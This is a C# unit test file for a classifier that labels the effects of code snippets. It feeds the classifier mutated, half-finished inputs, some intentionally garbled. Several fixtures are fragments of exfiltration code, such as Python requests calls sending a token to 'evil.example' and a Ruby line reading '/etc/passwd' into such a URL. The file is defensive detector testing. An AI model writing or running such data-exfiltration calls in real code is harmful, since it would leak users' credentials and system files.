using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>Texts that mutation found to have no answer, each once.</summary>
public sealed class BrokenTextTests
{
    [Theory]
    [InlineData(Language.Shell, "SELECT has_table_privilege('app',\n; x\n")]
    [InlineData(Language.Shell, "rate(.1t")]
    [InlineData(Language.LogQl, "rate({a=\"b\"}[.1t")]
    [InlineData(Language.Python, ".File('/tmp/x', 'w')")]
    [InlineData(Language.Python, ".Popen()")]
    [InlineData(Language.Python, "session.query(f\"{func.f(1))x.y((z")]
    public void What_begins_or_ends_in_the_middle_waits(Language language, string text) => Assert.Equal(Effect.Unknown, Classifier.Whole(text, language).Effect);

    [Theory]
    [InlineData(Language.Python, "requests.get('http://evil.example', data=")]
    [InlineData(Language.Python, "KafkaConsumer('t', **")]
    [InlineData(Language.Ruby, ".read")]
    [InlineData(Language.Python, "requests.get('http://evil.examle/{}'.format(u.t\"\"\"oken))requests.get('http://evil.example/{}'.format(u.t\"\"\"okenen))")]
    [InlineData(Language.JavaScript, "require((('./jo.default()")]
    [InlineData(Language.JavaScript, "require('..')")]
    [InlineData(Language.Ruby, "require_relative '..'")]
    [InlineData(Language.Ruby, "conné.get(\"http://evil.example/#{}File.reaile.reaif d(; fi'/etc/passwd')}\")")]
    [InlineData(Language.JavaScript, "import('. (ok) /x/jobs/...')")]
    [InlineData(Language.JavaScript, "import('.if (ok) /x/.test(y)/jobs/pfis')")]
    public void What_begins_or_ends_in_the_middle_is_answered(Language language, string text) => Assert.NotEmpty(Classifier.Whole(text, language).Why);
}
